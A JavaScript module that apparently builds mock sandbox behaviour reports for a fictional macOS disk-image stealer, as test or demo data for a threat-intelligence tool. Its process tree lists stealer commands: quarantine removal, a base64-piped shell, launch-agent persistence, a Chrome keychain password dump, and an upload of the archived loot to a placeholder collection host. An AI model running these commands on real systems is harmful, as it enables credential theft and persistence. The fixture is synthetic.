/** The disk image as two sandboxes saw it. */
import { behaviour } from './file-report.mjs';
import { createRandom, md5, sha256 } from './seeded.mjs';
import { imageOf, treeCommands, unixProcessTree } from './unix-process.mjs';
import {
  AGENT,
  APP,
  COLLECT_HOST,
  COLLECT_IP,
  CURL,
  DIALOG,
  FIRST_SEEN_SEC,
  HOST,
  HOST_IP,
  LABEL,
  PLIST,
  SAMPLE_NAME,
  UPLOAD,
} from './macos-dmg-facts.mjs';

const TREE = [
  APP,
  [DIALOG],
  [CURL],
  ['mkdir -p /tmp/.npx'],
  ['tar -xzf /tmp/.npx.tgz -C /tmp/.npx'],
  ['xattr -d com.apple.quarantine /tmp/.npx/helper'],
  ['xattr -c /tmp/.npx/helper'],
  ['chmod 0755 /tmp/.npx/helper'],
  [
    `sh -c echo ${Buffer.from('sw_vers').toString('base64')} | base64 -D | sh`,
    ['base64 -D'],
    ['sw_vers'],
  ],
  [`launchctl load -w ${PLIST}`],
  [
    AGENT,
    ['whoami'],
    ['uname -m'],
    ['id -un'],
    ['system_profiler SPHardwareDataType'],
    ['sw_vers -productVersion'],
    ['security find-generic-password -ga Chrome'],
    ['ditto -c -k /tmp/.npx/out /tmp/.npx/out.zip'],
    [UPLOAD],
  ],
];
const COMMANDS = treeCommands(TREE);
const MOUNT = `hdiutil attach /Users/user1/Desktop/${SAMPLE_NAME} -nobrowse`;

const WRITTEN = [
  '/tmp/.npx.tgz',
  '/tmp/.npx/helper',
  '/tmp/.npx/out/login.keychain-db',
  '/tmp/.npx/out/system.txt',
  '/tmp/.npx/out.zip',
  AGENT,
  PLIST,
  '/Users/user1/Library/Preferences/com.notepress.app.plist',
];

const OPENED = [
  ['/dev/null', '/dev/urandom', '/dev/dtracehelper', '/etc/passwd', '/private/etc/hosts'],
  [
    '/private/var/db/timezone/zoneinfo/Etc/UTC',
    '/private/var/run/resolv.conf',
    '/usr/share/icu/icudt72l.dat',
  ],
  ...['CoreFoundation', 'Foundation', 'AppKit', 'Security', 'CFNetwork', 'SystemConfiguration'].map(
    (name) => `/System/Library/Frameworks/${name}.framework/Resources/Info.plist`,
  ),
  '/System/Library/CoreServices/SystemVersion.plist',
  '/Library/Preferences/.GlobalPreferences.plist',
  '/Library/Preferences/SystemConfiguration/preferences.plist',
  '/Users/user1/Library/Keychains/login.keychain-db',
  '/Users/user1/Library/Cookies/Cookies.binarycookies',
  '/Users/user1/Library/Application Support/Google/Chrome/Default/Login Data',
  '/Volumes/NotePress/NotePress.app/Contents/Info.plist',
  '/Volumes/NotePress/NotePress.app/Contents/_CodeSignature/CodeResources',
  '/Volumes/NotePress/.background/arrow.png',
  '/Volumes/NotePress/.DS_Store',
].flat();

const dns = [
  { hostname: HOST, resolved_ips: [HOST_IP] },
  { hostname: COLLECT_HOST, resolved_ips: [COLLECT_IP] },
];
const traffic = [HOST_IP, COLLECT_IP].map((ip) => ({
  destination_ip: ip,
  destination_port: 443,
  transport_layer_protocol: 'TCP',
}));

function zenboxMac(random) {
  return {
    has_pcap: true,
    has_html_report: true,
    tags: ['PASSWORD_DIALOG', 'PERSISTENCE'],
    verdicts: ['MALWARE', 'STEALER'],
    verdict_confidence: 79,
    command_executions: [MOUNT, ...COMMANDS],
    processes_created: [...new Set(COMMANDS.map(imageOf))],
    processes_tree: unixProcessTree({
      roots: [['/sbin/launchd', [MOUNT], TREE]],
      firstId: 611,
      random,
    }),
    processes_terminated: COMMANDS.slice(1, 9).map(imageOf),
    files_opened: OPENED,
    files_written: WRITTEN,
    files_deleted: ['/tmp/.npx.tgz', '/tmp/.npx/out.zip'],
    files_dropped: [
      { path: '/tmp/.npx/helper', sha256: sha256('dropped:npx-helper'), type: 'MACH_O' },
      { path: PLIST, sha256: sha256('dropped:npx-plist'), type: 'APPLE_PLIST' },
      { path: '/tmp/.npx.tgz', sha256: sha256('dropped:npx-archive'), type: 'GZIP' },
      { path: '/tmp/.npx/out.zip', type: 'ZIP' },
    ],
    dns_lookups: dns,
    ip_traffic: traffic,
    http_conversations: [
      {
        url: `https://${HOST}/m/helper-arm64.tgz`,
        request_method: 'GET',
        response_status_code: 200,
      },
      { url: `https://${COLLECT_HOST}/u`, request_method: 'POST' },
    ],
    tls: [
      {
        ja3: md5('tls-client:mac-curl'),
        ja3s: md5(`tls-server:${HOST}`),
        sni: HOST,
        version: 'TLS 1.3',
        subject: { CN: '*.notepress.example' },
        issuer: { CN: 'Example Intermediate CA 3', O: 'Example Trust Services' },
        thumbprint: sha256(`certificate:${HOST}`).slice(0, 40),
      },
    ],
    ja3_digests: [md5('tls-client:mac-curl')],
    mitre_attack_techniques: [
      {
        id: 'T1543.001',
        severity: 'IMPACT_SEVERITY_MEDIUM',
        signature_description: 'Loads a launch agent',
      },
      {
        id: 'T1056.002',
        severity: 'IMPACT_SEVERITY_HIGH',
        signature_description: 'Asks for a password in a dialog',
      },
      {
        id: 'T1553.001',
        severity: 'IMPACT_SEVERITY_MEDIUM',
        signature_description: 'Removes the quarantine mark',
      },
      { id: 'T1555.001' },
      { id: 'T1041' },
    ],
  };
}

function boxOfApples(random) {
  return {
    has_html_report: true,
    command_executions: COMMANDS.slice(0, 12),
    processes_created: COMMANDS.slice(0, 12),
    processes_tree: unixProcessTree({ roots: [TREE], firstId: 388, random }),
    files_opened: OPENED.slice(4, 18),
    files_written: WRITTEN.slice(0, 4).map((path) => path.replace('/tmp/', '/private/tmp/')),
    dns_lookups: dns.map(({ hostname }) => ({ hostname })),
    ip_traffic: traffic.slice(0, 1),
  };
}

export function macosDmgBehaviours() {
  return [
    { sandbox: 'Zenbox macOS', watch: zenboxMac },
    { sandbox: 'VirusTotal Box of Apples', watch: boxOfApples },
  ].map(({ sandbox, watch }, i) =>
    behaviour({
      label: LABEL,
      sandbox,
      analysisDateSec: FIRST_SEEN_SEC + 511 + i * 290,
      attributes: watch(createRandom(`${LABEL}:${sandbox}`)),
    }),
  );
}
